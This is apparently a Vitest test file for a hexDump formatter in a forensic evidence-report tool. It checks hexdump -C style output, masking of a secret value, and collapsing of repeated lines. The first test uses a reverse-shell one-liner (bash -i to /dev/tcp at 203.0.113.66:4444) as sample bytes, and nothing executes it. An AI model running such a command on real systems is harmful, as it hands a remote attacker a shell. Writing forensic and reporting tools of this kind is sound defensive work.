import { describe, expect, it } from 'vitest';
import { hexDump } from '../../../electron/evidence/report/hex-dump.ts';

describe('bytes on paper', () => {
  it('stand as hexdump -C prints them', () => {
    const bytes = new TextEncoder().encode('bash -i >& /dev/tcp/203.0.113.66/4444');
    expect(hexDump(bytes, 0x1fen)).toBe(
      [
        '000001fe  62 61 73 68 20 2d 69 20  3e 26 20 2f 64 65 76 2f  |bash -i >& /dev/|',
        '0000020e  74 63 70 2f 32 30 33 2e  30 2e 31 31 33 2e 36 36  |tcp/203.0.113.66|',
        '0000021e  2f 34 34 34 34                                    |/4444|',
      ].join('\n'),
    );
  });

  it('hide what is masked in both columns and leave the rest', () => {
    const dump = hexDump(new TextEncoder().encode('PW=hunter2;'), 0n, [{ from: 3, to: 10 }]);
    expect(dump).toContain('50 57 3d ·· ·· ·· ·· ··  ·· ·· 3b');
    expect(dump).toContain('|PW=·······;|');
  });

  it('say what repeats once, and show the last line', () => {
    expect(hexDump(new Uint8Array(64), 0xffff_ffff_ff60_0000n).split('\n')).toEqual([
      'ffffffffff600000  00 00 00 00 00 00 00 00  00 00 00 00 00 00 00 00  |................|',
      '*',
      'ffffffffff600030  00 00 00 00 00 00 00 00  00 00 00 00 00 00 00 00  |................|',
    ]);
  });
});
